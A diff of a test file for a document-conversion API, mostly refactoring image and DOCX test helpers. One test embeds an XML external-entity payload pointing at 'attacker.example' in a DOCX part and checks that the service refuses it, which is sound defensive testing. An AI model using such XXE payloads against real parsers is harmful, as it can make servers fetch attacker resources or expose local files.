@@ -7,6 +7,7 @@ import { env, SELF } from "cloudflare:test";
 import { describe, expect, it } from "vitest";
 import { DocxPackage } from "../../src/docx/package";
 import * as T from "../support/docx-templates";
+import { dataUri, makePng } from "../support/png-images";
 import { readZipDirectory } from "../../src/docx/zip";
 import { PdfReader } from "../../src/pdf/reader";
 import { linkedTemplate } from "../support/linked-template";
@@ -105,7 +106,7 @@ describe("POST /v1/convert from Markdown", () => {
   });
 
   it("embeds a data-URI picture and a fetched one; a relative one is its alt text and a warning", async () => {
-    const png = T.dataUri(T.makePng(40, 20));
+    const png = dataUri(makePng(40, 20));
     const md = `![logo](${png}) ![remote](${env.FIXTURE_BASE_URL}/png) ![missing](docs/logo.png)`;
     const res = await convert("?from=md&to=docx", md, { "Content-Type": "text/markdown" });
     expect(res.headers.get("x-signet-warnings")).toBe("1");
@@ -145,7 +146,7 @@ describe("POST /v1/convert from HTML", () => {
 });
 
 describe("POST /v1/convert from DOCX", () => {
-  const docx = T.buildDocx({ body: T.para(T.text("Hello from Word")) });
+  const docx = T.templateDocx({ body: T.para(T.text("Hello from Word")) });
 
   it("renders a DOCX sent as FormData to PDF", async () => {
     const res = await convert("?from=docx&to=pdf", form(docx, "letter.docx", DOCX_TYPE));
@@ -171,7 +172,7 @@ describe("POST /v1/convert from DOCX", () => {
     expect(pkg.readXml("word/document.xml")).toContain(`<a:blip r:embed="rIdPic"/>`);
     expect(pkg.readXml("word/_rels/document.xml.rels")).toContain("https://example.com/terms");
     // A DTD in a part only carried over is refused as annotate refuses it.
-    const withDtd = T.buildDocx({ body: T.para(T.text("x")), extra: { "customXml/item1.xml": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "https://attacker.example/e">]><x>&e;</x>` } });
+    const withDtd = T.templateDocx({ body: T.para(T.text("x")), extra: { "customXml/item1.xml": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "https://attacker.example/e">]><x>&e;</x>` } });
     expect((await problem(await convert("?from=docx&to=docx", withDtd, { "Content-Type": DOCX_TYPE }))).code).toBe("xml_doctype_forbidden");
   });
 
@@ -204,7 +205,7 @@ describe("POST /v1/convert refuses", () => {
   });
 
   it("a document that is not what from says: a PNG as Markdown, Markdown as DOCX, binary text", async () => {
-    const png = T.makePng(2, 2);
+    const png = makePng(2, 2);
     const a = await convert("?from=md", form(png, "x.md", "text/markdown"));
     expect(a.status).toBe(415);
     expect((await problem(a)).code).toBe("unsupported_document_type");
